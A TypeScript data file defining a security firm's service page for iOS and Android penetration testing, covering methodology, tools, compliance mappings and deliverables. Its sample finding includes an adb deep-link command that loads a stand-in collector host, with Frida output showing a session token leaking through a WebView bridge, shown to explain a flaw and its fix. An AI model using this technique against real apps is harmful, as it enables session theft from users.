import { defaultCategory, type Service } from './service.ts';

export const mobilePenetrationTesting: Service = {
  slug: 'mobile-penetration-testing',
  title: 'Mobile Penetration Testing',
  seoTitle: 'Mobile App Penetration Testing',
  description:
    'iOS and Android penetration testing against OWASP MASVS and MASTG: the binary, the device, the traffic and the API behind it, on real hardware.',
  icon: 'smartphone',
  category: defaultCategory,
  lead: 'Your app runs on hardware the attacker owns. We take the shipped build apart, run it on rooted and stock devices, and show what it gives away: on disk, to other apps, in its traffic, and to the backend.',
  quoteServiceIds: ['mobile', 'api'],
  highlights: [
    {
      title: 'The build your users get',
      text: 'We test the release artifact with its obfuscation, pinning and signing as shipped. A debug build hides exactly the flaws we’re looking for.',
    },
    {
      title: 'Stock and rooted devices',
      text: 'Stock phones show what a thief or a hostile app can reach. Rooted and jailbroken ones show what the app trusts the device to protect.',
    },
    {
      title: 'The backend is half the app',
      text: 'A bypassed fingerprint prompt is a local problem. If the API trusts the app, that’s a problem for all your users, so we follow each call to the server.',
    },
    {
      title: 'Privacy, checked in traffic',
      text: 'We list every host the app talks to, what it sends, and which embedded SDK sends it. You can compare that list with your store listing.',
    },
  ],
  methodology: [
    {
      name: 'Builds and devices',
      text: 'You send the release IPA and APK or App Bundle, plus one build without pinning. We confirm versions, hashes, test accounts and which MASVS groups apply.',
      share: 0.5,
    },
    {
      name: 'Static analysis',
      text: 'We decompile the app, read its manifest and entitlements, list exported components, URL schemes and embedded keys, and mark the code paths worth hooking.',
      share: 1.5,
    },
    {
      name: 'Storage and platform',
      text: 'On the device, we test keychain classes, Keystore use, backups, logs, clipboard, snapshots, WebViews, intents and deep links (MASVS-STORAGE, MASVS-PLATFORM).',
      share: 1.5,
    },
    {
      name: 'Traffic and trust',
      text: 'We test TLS validation, pinning and ways around it, cleartext exceptions, push payloads and WebSocket channels (MASVS-NETWORK).',
      share: 1,
    },
    {
      name: 'The app’s backend',
      text: 'We replay each of the app’s API calls as other users, with forged device IDs, and from old app versions that the server should refuse.',
      share: 2.5,
    },
    {
      name: 'Resilience, if required',
      text: 'We measure how long root detection, integrity checks and obfuscation hold up against a tester with Frida, and report the effort in hours (MASVS-RESILIENCE).',
      share: 1.5,
    },
    {
      name: 'Write-up and walkthrough',
      text: 'We reproduce each finding on a clean device for each platform. Then your iOS and Android engineers go through them with us.',
      share: 'report',
    },
  ],
  tools: [
    { name: 'Frida', use: 'Hooking methods at runtime: pinning, biometrics, crypto calls' },
    { name: 'objection', use: 'Quick runtime exploration of keychain, storage and classes' },
    { name: 'jadx', use: 'Reading Android bytecode as Java' },
    { name: 'apktool', use: 'Unpacking, patching and rebuilding the APK' },
    { name: 'Ghidra', use: 'Native libraries and iOS binaries' },
    { name: 'MobSF', use: 'A first static pass over manifest, entitlements and known SDKs' },
    { name: 'Burp Suite Pro', use: 'Watching and changing the traffic between app and API' },
    { name: 'adb and drozer', use: 'Calling exported components as a hostile app would' },
  ],
  compliance: [
    {
      standard: 'OWASP MASVS 2',
      clause: 'STORAGE to PRIVACY',
      text: 'Each control group is reported as tested, not applicable or out of scope, with MASTG test references.',
    },
    {
      standard: 'PCI DSS 4.0.1',
      clause: '6.2.4',
      text: 'Shows whether your payment code resists the common attack classes listed there.',
    },
    {
      standard: 'GDPR',
      clause: 'Art. 25, Art. 32',
      text: 'The traffic inventory shows which personal data leaves the phone, where it goes, and how it’s protected.',
    },
    {
      standard: 'HIPAA',
      clause: '§164.312(e)(1)',
      text: 'Checks how patient data is protected in transit on networks that neither side controls.',
    },
  ],
  featuresLead: 'What a stolen phone gives away',
  features: [
    {
      icon: 'lock',
      title: 'Data at rest on the phone',
      description:
        'We examine keychain items, Keystore entries, SQLite files, caches, screenshots and backups, both as a thief would and with root access.',
    },
    {
      icon: 'fingerprint',
      title: 'Biometric checks',
      description:
        'We check whether the fingerprint releases a key in hardware. If the prompt only returns true, a one-line hook bypasses it.',
    },
    {
      icon: 'webhook',
      title: 'Deep links and intents',
      description:
        'We open custom schemes and App Links from a web page and from a hostile app, which also calls exported activities and content providers.',
    },
    {
      icon: 'network',
      title: 'Pinning and TLS validation',
      description:
        'We test certificate checks with wrong hosts, user-installed certificate authorities and expired chains, on each network stack the app embeds.',
    },
    {
      icon: 'puzzle',
      title: 'SDKs you didn’t write',
      description:
        'We check analytics, ads, chat and payment libraries: what they collect, where they send it, and which known flaws they have.',
    },
    {
      icon: 'terminal',
      title: 'Reverse engineering effort',
      description:
        'We measure how many hours a skilled person needs to find the signing secret, patch the license check or automate the app.',
    },
  ],
  framework: {
    scanning:
      'A phone app is only as safe as what it talks to. We take the endpoints from its own traffic, then scan the backend, the pages inside its web views, and the sites that its app links trust.',
    encryption:
      'We check what’s encrypted on the device and where the key is: Keychain access classes, hardware-backed Keystore entries, databases and backups. On the way out, we look for calls that bypass pinning.',
    code: 'We decompile the release build and compare it with your source, if you share it. We look for keys in resources and native libraries, bridges into web views, and debug switches that shipped by mistake.',
  },
  reportContains: [
    'A MASVS coverage table for each platform',
    'Findings per platform, with device, OS version, build hash and steps',
    'Frida scripts and proof-of-concept apps, ready to run',
    'A list of hosts, SDKs and data types seen in traffic',
    'Fixes in Swift and Kotlin, or in the cross-platform framework you use',
  ],
  notIncluded: [
    'Tests of the app stores or of the operating system itself',
    'Backend hosts beyond the API that the app calls',
    'Attacks on the baseband, the SIM or the mobile carrier',
    'Accessibility and performance reviews',
  ],
  weNeed: [
    'Release builds for both platforms, plus one build with pinning turned off',
    'Two test accounts per role, with registered devices if your app requires them',
    'API documentation or a traffic capture of the main flows',
    'Provisioning for our test devices, if you ship through TestFlight or an MDM',
  ],
  after: 'for one app on both platforms, with its API',
  evidence: {
    title: 'One link gives away the session',
    language: 'Shell',
    code: [
      '$ adb shell am start -W -a android.intent.action.VIEW \\',
      '    -d "kestrel://open?url={-https://collector.tester.example/x.html-}" {#1}',
      'Status: ok',
      'Activity: com.kestrel.app/.WebActivity',
      '',
      '$ frida -U -N com.kestrel.app -l bridge.js',
      '[bridge] KestrelBridge.getSession() called',
      '[bridge] caller: https://collector.tester.example/x.html',
      '[bridge] return: {!eyJhbGciOiJSUzI1NiJ9.[redacted]!} {#2}',
    ],
    notes: ['any host works', 'the session, on a stranger’s page'],
    caption:
      'Sample finding. A deep link opens any URL in a WebView that exposes a JavaScript bridge. One tap in a chat message leaks the token. Allow only your own hosts, and bind the bridge to them. MASVS-PLATFORM-2, CWE-749.',
  },
  relatedSlugs: ['api-penetration-testing', 'web-penetration-testing', 'continuous-monitoring'],
};
